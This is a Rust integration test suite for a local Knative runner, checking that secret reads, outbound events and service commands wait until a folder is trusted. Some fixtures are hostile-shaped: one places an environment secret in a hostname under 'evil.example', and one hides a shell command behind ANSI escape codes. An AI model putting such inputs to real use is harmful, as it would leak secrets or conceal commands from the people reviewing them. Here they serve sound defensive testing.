//! Trust of folders: nothing secret is read, nothing leaves this machine and nothing is started before it is
//! given, and it cannot be given to one thing and used for another.

use std::fs;
use std::io::Read;
use std::net::{TcpListener, TcpStream};
use std::path::Path;
use std::process::{Command, Output, Stdio};
use std::thread::sleep;
use std::time::Duration;

/// Takes events from the system behind `connect`, and sends them on.
const REDIS: &str = "apiVersion: sources.knative.dev/v1alpha1\nkind: RedisStreamSource\nmetadata: {name: r}\n\
    spec: {address: 'redis://redis.default:6379', stream: s, sink: {uri: 'http://127.0.0.1:1'}}\n";

const SERVICE: &str = "apiVersion: serving.knative.dev/v1\nkind: Service\nmetadata: {name: show}\n";

/// Between two looks whether somebody called.
const PAUSE: Duration = Duration::from_millis(20);

struct Folder(tempfile::TempDir);

impl Folder {
    fn with(manifest: &str, workspace: &str) -> Self {
        let folder = tempfile::tempdir().expect("a folder");
        let project = folder.path().join("project");
        fs::create_dir(&project).expect("made");
        fs::write(project.join("a.yaml"), manifest).expect("written");
        fs::write(project.join("knew.yaml"), workspace).expect("written");
        Self(folder)
    }

    fn project(&self) -> std::path::PathBuf {
        self.0.path().join("project")
    }

    fn knew(&self, arguments: &[&str]) -> Command {
        let mut command = Command::new(env!("CARGO_BIN_EXE_knew"));
        command
            .args(arguments)
            .env("XDG_STATE_HOME", self.0.path().join("state"))
            .env("SECRET_OF_A_TEST", "top-secret-value")
            .stdin(Stdio::null());
        command
    }

    /// Runs for a while.
    fn run(&self, arguments: &[&str]) -> Output {
        let project = self.project();
        let mut command = self.knew(&["run", "--listen", "127.0.0.1:0"]);
        if !arguments.contains(&"--for") {
            command.args(["--for", "2s"]);
        }
        command.args(arguments).arg(project);
        command.output().expect("it runs")
    }

    fn trust(&self, arguments: &[&str]) -> Output {
        let mut command = self.knew(&["trust"]);
        command.args(arguments).output().expect("it runs")
    }

    fn trust_all(&self) {
        let project = self.project();
        let output = self.trust(&["--yes", &project.display().to_string()]);
        assert!(output.status.success(), "{}", text(&output.stderr));
    }
}

fn text(bytes: &[u8]) -> String {
    String::from_utf8_lossy(bytes).into_owned()
}

/// A server that hears what it is told until nobody has called for a moment.
fn heard(listener: &TcpListener, while_waiting: Duration) -> String {
    listener.set_nonblocking(true).expect("set");
    let mut heard = String::new();
    for _ in 0..while_waiting.as_millis() / PAUSE.as_millis() {
        match listener.accept() {
            Ok((stream, _)) => heard += &read(stream),
            Err(_) => sleep(PAUSE),
        }
    }
    heard
}

fn read(mut stream: TcpStream) -> String {
    let mut bytes = [0; 4096];
    stream.set_nonblocking(false).expect("set");
    stream
        .set_read_timeout(Some(Duration::from_millis(500)))
        .expect("set");
    let count = stream.read(&mut bytes).unwrap_or_default();
    format!("[{}]", String::from_utf8_lossy(&bytes[..count]))
}

fn listener() -> (TcpListener, u16) {
    let listener = TcpListener::bind("127.0.0.1:0").expect("a port");
    let port = listener.local_addr().expect("an address").port();
    (listener, port)
}

#[test]
fn no_secret_is_read_before_the_folder_is_trusted() {
    let (listener, port) = listener();
    let address = format!("redis://user:${{env:SECRET_OF_A_TEST}}@127.0.0.1:{port}");
    let folder = Folder::with(REDIS, &format!("connect: {{redis: '{address}'}}\n"));

    let refused = folder.run(&[]);
    assert_eq!(refused.status.code(), Some(2));
    let words = text(&refused.stderr);
    let line = format!("connect to Redis at {address}  (reads the variable SECRET_OF_A_TEST)");
    assert!(words.contains(&line), "{words}");
    assert!(words.contains("--trust for this run"), "{words}");

    let restricted = folder.run(&["--restricted"]);
    assert!(restricted.status.success());
    assert!(text(&restricted.stderr).contains("not trusted to connect to Redis"));
    assert_eq!(heard(&listener, Duration::from_millis(100)), "");

    folder.trust_all();
    let run = std::thread::scope(|scope| {
        let run = scope.spawn(|| folder.run(&[]));
        let heard = heard(&listener, Duration::from_secs(2));
        assert!(heard.contains("top-secret-value"), "{heard}");
        run.join().expect("it ran")
    });
    assert!(!text(&run.stderr).contains("top-secret-value"));
}

#[test]
fn a_secret_never_becomes_the_name_of_a_host() {
    let workspace = "connect: {redis: 'redis://${env:SECRET_OF_A_TEST}.evil.example:27005'}\n";
    let folder = Folder::with(REDIS, workspace);
    let run = folder.run(&["--trust"]);
    let words = text(&run.stderr);
    assert!(words.contains("cannot stand for the host"), "{words}");
    assert!(!words.contains("top-secret-value"), "{words}");
    let path = folder.project().display().to_string();
    let check = folder.knew(&["check", &path]).output().expect("it runs");
    let words = text(&check.stdout);
    assert!(words.contains("knew.yaml:1:"), "{words}");
    assert!(words.contains("reference for its host"), "{words}");
}

#[test]
fn a_pipe_or_a_device_in_place_of_a_secret_holds_nothing_up() {
    let (_listener, port) = listener();
    let folder = tempfile::tempdir().expect("a folder");
    let pipe = folder.path().join("pipe");
    let made = Command::new("mkfifo").arg(&pipe).status();
    assert!(made.expect("mkfifo is there").success());
    for path in [Path::new("/dev/zero"), &pipe] {
        let address = format!("redis://u:${{file:{}}}@127.0.0.1:{port}", path.display());
        let folder = Folder::with(REDIS, &format!("connect: {{redis: '{address}'}}\n"));
        let run = folder.run(&["--trust"]);
        assert!(run.status.success());
        let words = text(&run.stderr);
        assert!(words.contains("it is not a regular file"), "{words}");
    }
}

#[test]
fn trust_is_listed_revoked_and_bound_to_its_folder_and_words() {
    let workspace = "services: {show: {command: 'exec sleep 60'}}\n";
    let folder = Folder::with(SERVICE, workspace);
    let project = folder.project().display().to_string();
    assert_eq!(folder.trust(&[&project]).status.code(), Some(1));
    assert_eq!(folder.run(&[]).status.code(), Some(2));

    folder.trust_all();
    assert!(folder.run(&[]).status.success());
    let listed = text(&folder.trust(&["--list"]).stdout);
    assert!(listed.contains("project  (1 thing)"), "{listed}");

    let changed = "services: {show: {command: 'exec sleep 61'}}\n";
    fs::write(folder.project().join("knew.yaml"), changed).expect("written");
    assert_eq!(folder.run(&[]).status.code(), Some(2));
    fs::write(folder.project().join("knew.yaml"), workspace).expect("written");
    assert!(folder.run(&[]).status.success());

    let revoked = text(&folder.trust(&["--revoke", &project]).stdout);
    assert!(revoked.contains("1 revoked"), "{revoked}");
    assert_eq!(folder.run(&[]).status.code(), Some(2));
}

#[test]
fn variables_that_a_manifest_sets_for_a_command_are_asked_about() {
    let manifest = |value: &str| {
        let binding = format!(
            "{SERVICE}---\napiVersion: sources.knative.dev/v1\nkind: SinkBinding\nmetadata: {{name: b}}\n\
             spec:\n  subject: {{apiVersion: serving.knative.dev/v1, kind: Service, name: show}}\n  \
             sink: {{uri: 'http://127.0.0.1:1'}}\n  ceOverrides: {{extensions: {{opts: '{value}'}}}}\n"
        );
        binding
            + "---\napiVersion: sources.knative.dev/v1\nkind: ContainerSource\nmetadata: {name: c}\nspec:\n  \
               template: {spec: {containers: [{image: example/c}]}}\n  sink: {uri: 'http://127.0.0.1:1'}\n  \
               ceOverrides: {extensions: {from: source}}\n"
    };
    let workspace = "services: {show: {command: 'true'}}\nsources: {c: {command: 'true'}}\n";
    let folder = Folder::with(&manifest("one"), workspace);
    let project = folder.project().display().to_string();
    let asked = text(&folder.trust(&[&project]).stdout);
    for line in [
        "show, in ",
        r#"with K_CE_OVERRIDES={"extensions":{"opts":"one"}}"#,
        r#"with K_CE_OVERRIDES={"extensions":{"from":"source"}}"#,
    ] {
        assert!(asked.contains(line), "{line}: {asked}");
    }
    folder.trust_all();
    fs::write(folder.project().join("a.yaml"), manifest("two")).expect("written");
    let asked = text(&folder.trust(&[&project]).stdout);
    let missing: Vec<_> = asked
        .lines()
        .filter(|line| line.starts_with("  no"))
        .collect();
    assert_eq!(missing.len(), 1, "{asked}");
    assert!(missing[0].contains(r#"{"opts":"two"}"#), "{asked}");
}

#[test]
fn a_command_is_shown_with_every_character_of_it() {
    let workspace = "services: {show: {command: \"touch PLAIN; sleep 60 #\\e[2K\\e[1Gharmless, in r\\e[8m\"}}\n";
    let folder = Folder::with(SERVICE, workspace);
    let line = "run touch PLAIN; sleep 60 #\\x1b[2K\\x1b[1Gharmless, in r\\x1b[8m  (for Service default/show";
    let refused = folder.run(&[]);
    let project = folder.project().display().to_string();
    let shown = folder.trust(&[&project]);
    for words in [text(&refused.stderr), text(&shown.stdout)] {
        assert!(words.contains(line), "{words}");
        assert!(!words.contains('\u{1b}'), "{words:?}");
    }
    assert!(!Path::new(&project).join("PLAIN").exists());
}

/// Events for another machine: refused, named, and sent once trusted. `0.0.0.0` is not loopback, and yet
/// reaches this machine alone.
#[test]
fn events_leave_this_machine_only_with_trust() {
    let (listener, port) = listener();
    let manifest = format!(
        "apiVersion: sources.knative.dev/v1\nkind: PingSource\nmetadata: {{name: p}}\n\
         spec: {{schedule: '*/1 * * * * *', sink: {{uri: 'http://0.0.0.0:{port}/in'}}}}\n"
    );
    let folder = Folder::with(&manifest, "");
    let refused = folder.run(&[]);
    let words = text(&refused.stderr);
    let line = format!("send events to http://0.0.0.0:{port}");
    assert!(words.contains(&line), "{words}");
    // Long enough for the retries of a source to end.
    let restricted = folder.run(&["--restricted", "--for", "6s"]);
    let words = text(&restricted.stderr);
    assert!(words.contains("not trusted to send events to"), "{words}");
    assert_eq!(heard(&listener, Duration::from_millis(100)), "");
    std::thread::scope(|scope| {
        let run = scope.spawn(|| folder.run(&["--trust"]));
        let heard = heard(&listener, Duration::from_secs(2));
        assert!(heard.contains("POST /in"), "{heard}");
        run.join().expect("it ran")
    });
}
